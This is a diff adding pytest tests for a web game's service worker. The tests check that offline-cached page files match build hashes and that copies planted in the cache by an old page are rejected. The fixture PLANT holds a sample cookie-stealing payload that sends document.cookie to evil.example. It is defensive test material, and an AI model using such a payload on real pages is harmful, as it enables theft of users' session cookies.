@@ -7,11 +7,15 @@ visitor's offline copy (issue 48):
 * an update whose refetch of the runtime failed (the CDN down, a 503) installed
   anyway, and its ``activate`` deleted the old, working cache;
 * a 200 HTML page sent with CORS headers for ``main.js`` (a CDN's error page, a
-  proxy's) was kept as the runtime.
+  proxy's) was kept as the runtime;
+* a copy of a page file planted in the new build's cache (by any page of the
+  origin, while the old build's page ran) was served for good: the worker
+  knew no file's hash (item 7).
 """
 
 from __future__ import annotations
 
+import hashlib
 import json
 import shutil
 import subprocess
@@ -20,7 +24,7 @@ from typing import Any
 
 import pytest
 
-from game.web.offline import BUILD_FIELD, FILES_FIELD, HERE
+from game.web.offline import BUILD_FIELD, FILES_FIELD, HASHES_FIELD, HERE
 
 pytestmark = pytest.mark.skipif(shutil.which("node") is None, reason="Node.js runs the worker's JavaScript")
 
@@ -42,6 +46,8 @@ def run_worker(steps: list[list[Any]], network: dict[str, Any], old_cache: dict[
     """The harness's report: each step's outcome and every cache's addresses and bodies afterwards."""
     worker = (HERE / "service_worker.js").read_text(encoding="utf-8")
     worker = worker.replace(BUILD_FIELD, NEW.rsplit(":", 1)[1]).replace(FILES_FIELD, json.dumps(PAGE_FILES))
+    pins = {name: hashlib.sha256(f"new {name}".encode()).hexdigest() for name in PAGE_FILES}
+    worker = worker.replace(HASHES_FIELD, json.dumps(pins))
     page = {SCOPE + name: {"status": 200, "responseType": "basic", "body": f"new {name}"} for name in PAGE_FILES}
     caches = {}
     if old_cache is not None:
@@ -103,3 +109,70 @@ def test_a_runtime_file_is_kept_whatever_its_non_html_type() -> None:
     report = run_worker([["install"], ["fetch", MAIN_JS, "no-cors"], ["keep", [MAIN_WASM]]],
                         {MAIN_JS: untyped, MAIN_WASM: data})
     assert report["caches"][NEW][MAIN_JS] == "js" and report["caches"][NEW][MAIN_WASM] == "data"
+
+
+PLANT = "fetch('https://evil.example/?' + document.cookie)"
+INDEX, ARCHIVE = SCOPE + "index.html", SCOPE + "othello.tar.gz"
+
+
+def test_the_page_files_are_served_from_the_cache_when_they_match_the_builds_hashes() -> None:
+    offline = {SCOPE + name: "offline" for name in PAGE_FILES}
+    report = run_worker([["install"], ["activate"], ["network", offline],
+                         ["fetch", SCOPE, "navigate"], ["fetch", ARCHIVE, "cors"]], {})
+    assert [step["ok"] for step in report["steps"]] == [True] * 5
+    assert report["steps"][3]["answer"]["body"] == "new index.html"
+    assert report["steps"][4]["answer"]["body"] == "new othello.tar.gz"
+
+
+@pytest.mark.parametrize("url", [INDEX, ARCHIVE])
+def test_a_planted_page_file_is_neither_served_nor_kept(url: str) -> None:
+    # the old build's page, still open, writes its loader into the new build's cache during or after install
+    report = run_worker([["install"], ["plant", NEW, url, PLANT], ["activate"],
+                         ["fetch", INDEX, "navigate"], ["fetch", ARCHIVE, "cors"]], {})
+    assert [step["ok"] for step in report["steps"]] == [True] * 5
+    assert report["steps"][3]["answer"]["body"] == "new index.html"
+    assert report["steps"][4]["answer"]["body"] == "new othello.tar.gz"
+    assert report["caches"][NEW][url] == f"new {url.rsplit('/', 1)[1]}"  # the good copy, fetched anew, kept
+
+
+def test_offline_a_planted_page_file_is_not_served() -> None:
+    offline = {SCOPE + name: "offline" for name in PAGE_FILES}
+    report = run_worker([["install"], ["plant", NEW, INDEX, PLANT], ["network", offline],
+                         ["fetch", INDEX, "navigate"]], {})
+    assert report["steps"][3]["ok"] is False or report["steps"][3]["answer"]["body"] != PLANT
+    assert report["caches"][NEW].get(INDEX) != PLANT
+
+
+def test_the_page_fetched_anew_at_any_address_is_kept_as_index_html() -> None:
+    network = {SCOPE + "?debug": {"status": 200, "responseType": "basic", "contentType": "text/html",
+                                  "body": "new index.html"}}
+    report = run_worker([["install"], ["plant", NEW, INDEX, PLANT], ["network", network],
+                         ["fetch", SCOPE + "?debug", "navigate"]], {})
+    assert report["steps"][3]["answer"]["body"] == "new index.html"
+    assert report["caches"][NEW][INDEX] == "new index.html" and SCOPE + "?debug" not in report["caches"][NEW]
+
+
+def test_an_install_whose_page_file_does_not_match_its_hash_fails() -> None:
+    # a plant already in the browser's HTTP cache, a proxy's rewrite: the build's files or no install
+    report = run_worker([["install"]], {ARCHIVE: {"status": 200, "responseType": "basic", "body": PLANT}},
+                        old_cache={})
+    assert report["steps"][0]["ok"] is False
+    assert NEW not in report["caches"] or ARCHIVE not in report["caches"][NEW]
+    assert report["caches"][OLD][ARCHIVE] == "old othello.tar.gz"
+
+
+def test_a_page_file_from_the_network_that_does_not_match_is_passed_on_but_not_kept() -> None:
+    # an older worker still running when a newer build is deployed: the page's new files are not its own
+    report = run_worker([["install"], ["plant", NEW, INDEX, PLANT],
+                         ["network", {INDEX: {"status": 200, "responseType": "basic", "body": "newer index.html"}}],
+                         ["fetch", INDEX, "navigate"]], {})
+    assert report["steps"][3]["answer"]["body"] == "newer index.html"
+    assert INDEX not in report["caches"][NEW]
+
+
+def test_a_runtime_file_planted_in_the_new_cache_before_the_install_is_replaced() -> None:
+    # the old build's page writes into the cache the new worker is about to fill: the refetch wins
+    report = run_worker([["plant", NEW, MAIN_JS, PLANT], ["install"], ["activate"]], {MAIN_JS: SCRIPT, MAIN_WASM: WASM},
+                        old_cache={MAIN_JS: "// old CPython", MAIN_WASM: "old wasm"})
+    assert [step["ok"] for step in report["steps"]] == [True, True, True]
+    assert report["caches"][NEW][MAIN_JS] == "// CPython"
